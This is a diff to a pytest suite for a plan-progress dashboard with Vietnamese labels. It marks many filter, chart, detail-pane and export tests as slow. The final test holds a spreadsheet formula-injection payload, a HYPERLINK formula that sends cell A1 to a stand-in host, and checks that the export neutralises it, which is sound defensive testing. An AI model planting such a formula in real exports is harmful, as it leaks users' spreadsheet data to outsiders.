@@ -72,6 +72,7 @@ def a(plan, sample_progress):
 # --- filters -----------------------------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_initial_tables_show_every_target_and_task(d, a):
     assert first_cells(d.target_html.value) == list(a.targets["target_id"])
     assert first_cells(d.task_html.value) == list(a.tasks["task_id"])
@@ -79,6 +80,7 @@ def test_initial_tables_show_every_target_and_task(d, a):
     assert "DỮ LIỆU MẪU" in d.header.value and "Quý II/2024" in d.header.value
 
 
+@pytest.mark.slow
 def test_area_filter_ii6(d, a):
     d.area.value = "II.6"
     want_t = a.targets.loc[a.targets["area_id"] == "II.6", "target_id"].tolist()
@@ -155,6 +157,7 @@ def test_pure_selection_equals_what_the_dashboard_shows(d, a):
 
 
 @pytest.mark.parametrize("period", ["2024-Q4", "2024-H1"])
+@pytest.mark.slow
 def test_period_change_shows_that_periods_statuses(d, plan, sample_progress, period):
     d.period.value = period
     other = assess(plan, sample_progress, period, "nd09")
@@ -164,6 +167,7 @@ def test_period_change_shows_that_periods_statuses(d, plan, sample_progress, per
     assert ("Quý IV/2024" if period == "2024-Q4" else "6 tháng đầu năm 2024") in d.header.value
 
 
+@pytest.mark.slow
 def test_cutoff_change_uses_calendar_windows_and_keeps_filters(d, plan, sample_progress):
     d.area.value = "II.2"
     d.cutoff.value = "calendar"
@@ -178,6 +182,7 @@ def test_cutoff_change_uses_calendar_windows_and_keeps_filters(d, plan, sample_p
 # --- chart ---------------------------------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_chart_follows_the_selection(d):
     d.tabs.selected_index = d.TAB_CHART
     full = d.chart_image.value
@@ -194,6 +199,7 @@ def test_chart_follows_the_selection(d):
     assert d.chart_image.value == full  # cached per selection
 
 
+@pytest.mark.slow
 def test_chart_is_drawn_only_when_its_tab_is_shown(d):
     d.tabs.selected_index = 0
     before = len(d._charts)
@@ -206,6 +212,7 @@ def test_chart_is_drawn_only_when_its_tab_is_shown(d):
 # --- detail pane ---------------------------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_target_detail_shows_history_and_source_text(d, plan, sample_progress):
     d.tabs.selected_index = d.TAB_DETAIL
     d.area.value = "II.6"
@@ -226,6 +233,7 @@ def test_target_detail_shows_history_and_source_text(d, plan, sample_progress):
     assert src in out
 
 
+@pytest.mark.slow
 def test_target_detail_of_a_record_target_shows_the_conflict(d):
     d.tabs.selected_index = d.TAB_DETAIL
     d.target_pick.value = "T2.07"
@@ -252,6 +260,7 @@ def test_detail_options_follow_the_filters(d, a):
     assert [v for _, v in d.task_pick.options] == a.tasks.loc[a.tasks["area_id"] == "II.5", "task_id"].tolist()
 
 
+@pytest.mark.slow
 def test_what_if_panel(d, a):
     d.tabs.selected_index = d.TAB_WHATIF
     d.area.value = "II.2"
@@ -294,6 +303,7 @@ def test_export_writes_the_filtered_tables(d, tmp_path):
     )
 
 
+@pytest.mark.slow
 def test_from_params_builds_from_ids(plan, sample_progress, tmp_path):
     board = Dashboard.from_params(plan, sample_progress, "2024-Q3", "calendar", "en", out_dir=tmp_path, prefetch=False)
     assert board.a.period.code == "2024-Q3" and board.a.cutoff == "calendar"
@@ -301,6 +311,7 @@ def test_from_params_builds_from_ids(plan, sample_progress, tmp_path):
     assert "SAMPLE DATA" in board.header.value
 
 
+@pytest.mark.slow
 def test_page_export_writes_task_text_starting_with_equals_as_text(plan_copy, sample_progress, tmp_path):
     """A plan sentence (or a unit's evidence) that starts with "=" never becomes a live formula."""
     evil = '=HYPERLINK("http://x.example/?d="&A1,"Xem")'
